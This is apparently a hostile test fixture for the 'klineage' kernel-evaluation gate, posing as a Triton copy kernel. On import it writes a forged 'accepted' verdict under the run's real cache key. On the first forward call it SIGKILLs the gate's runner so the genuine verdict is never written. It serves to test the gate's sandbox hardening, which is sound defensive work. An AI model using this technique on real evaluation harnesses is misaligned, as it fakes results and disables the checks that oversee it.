"""Hostile (cache-and-store): at import, writes a forged accepted verdict under this run's exact gate cache key; on the first forward it sends SIGKILL to its parent (os.getppid(), the gate's runner) so the real verdict is never written over it, then exits.
Expect: compile — the hardened gate's sandbox cannot write the cache and cannot signal the runner (another PID namespace / no kill permission), so the parent survives and reports the child's exit during the first call.

WARNING: against the current (unsandboxed) gate this kills whatever process runs run_gate: the
`klineage gate` CLI, or pytest itself if the gate is called in-process. Run it against the
current gate only through the CLI in a subprocess. Safety: it signals only os.getppid(), only if
that is not init (pid > 1) and its command line names python, klineage or pytest; it writes one
cache entry keyed by its own source; nothing is deleted.
"""

import hashlib
import json
import os
import signal
import sys
from pathlib import Path

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def _copy_kernel(src_ptr, dst_ptr, n_cols, stride_s, stride_d, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    v = tl.load(src_ptr + row * stride_s + cols, mask=mask)
    tl.store(dst_ptr + row * stride_d + cols, v.to(dst_ptr.dtype.element_ty), mask=mask)


def _cache_root():
    raw = os.environ.get("KLINEAGE_CACHE_DIR")
    if raw:
        return Path(raw)
    return Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache")) / "klineage"


def _writable(path):
    while not path.exists():
        path = path.parent
    return os.access(path, os.W_OK)


def _gate_request():
    """The current gate child is `worker REQUEST.json EVENTS.jsonl`: the request names everything."""
    for a in sys.argv[1:]:
        p = Path(a)
        if p.name == "request.json" and p.parent.name.startswith("klineage-gate-") and p.exists():
            return json.loads(p.read_text(encoding="utf-8"))
    return None


def _env_fingerprint(device):
    import klineage

    fp = {"device": device, "torch": str(torch.__version__), "triton": triton.__version__,
          "klineage": klineage.__version__, "python": sys.version.split()[0]}  # fmt: skip
    if device == "cuda":
        fp["gpu"] = torch.cuda.get_device_name(0)
    return fp


def _key(problem_src, candidate_src, regimes, overrides, config, device):
    parts = {"problem": problem_src, "candidate": candidate_src, "regimes": regimes,
             "overrides": overrides, "config": config, "env": _env_fingerprint(device)}  # fmt: skip
    blob = json.dumps(parts, sort_keys=True, default=str).encode()
    return hashlib.sha256(blob).hexdigest()


def _stage(stage, status, message, regimes=()):
    outcomes = [{"regime": r, "status": "passed", "message": "5 trials passed", "trials": 5} for r in regimes]
    return {"stage": stage, "status": status, "message": message, "numbers": {},
            "regimes": outcomes, "seconds": 0.01}  # fmt: skip


def _verdict(problem, candidate, device, regimes, key):
    shown = regimes or ["tiny_rows", "odd", "half"]
    stages = [
        _stage("load", "passed", "Model and ModelNew loaded"),
        _stage("static_guards", "passed", "launches Triton; no try/except, reference use, torch compute in forward, side streams"),
        _stage("compile", "passed", "1 kernel launch(es) on first call"),
        _stage("runtime_guards", "passed", "1 Triton launch(es); no PyTorch compute, no reference call"),
        _stage("correctness", "passed", f"{len(shown)} regime(s) x 5 trials passed", shown),
        _stage("profile", "not_measured", "no GPU: timing not measured, and never estimated"),
    ]
    return {"problem": problem, "candidate": candidate, "device": device, "regimes": shown,
            "accepted": True, "stages": stages, "environment": None, "cache_key": key,
            "cached": False, "seconds": 1.0}  # fmt: skip


def _plant(root, req, candidate_path, regimes, config):
    problem_src = Path(req["problem"]).read_text(encoding="utf-8")
    candidate_src = Path(candidate_path).read_text(encoding="utf-8")
    key = _key(problem_src, candidate_src, regimes, req["overrides"], config, req["device"])
    path = root / "gate" / key[:2] / f"{key}.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(_verdict(req["problem"], str(candidate_path), req["device"], regimes, key)), encoding="utf-8")
    return path


def _plant_this_run():
    req = _gate_request()
    root = _cache_root()
    if req is None or not _writable(root):
        return None
    config = {k: v for k, v in req["config"].items() if k not in ("timeout_s", "cache")}
    return _plant(root, req, Path(__file__).resolve(), req["regimes"], config)


PLANTED = _plant_this_run()


def _kill_parent_and_exit():
    ppid = os.getppid()
    cmdline = Path(f"/proc/{ppid}/cmdline")
    text = cmdline.read_bytes().decode(errors="replace").lower() if cmdline.exists() else ""
    if ppid > 1 and any(word in text for word in ("python", "klineage", "pytest")):
        os.kill(ppid, signal.SIGKILL)
    os._exit(0)


class ModelNew(nn.Module):
    def forward(self, x):
        _kill_parent_and_exit()
        x = x.contiguous()
        m, n = x.shape
        y = torch.empty_like(x)
        _copy_kernel[(m,)](x, y, n, x.stride(0), y.stride(0), BLOCK=triton.next_power_of_2(n))
        return y
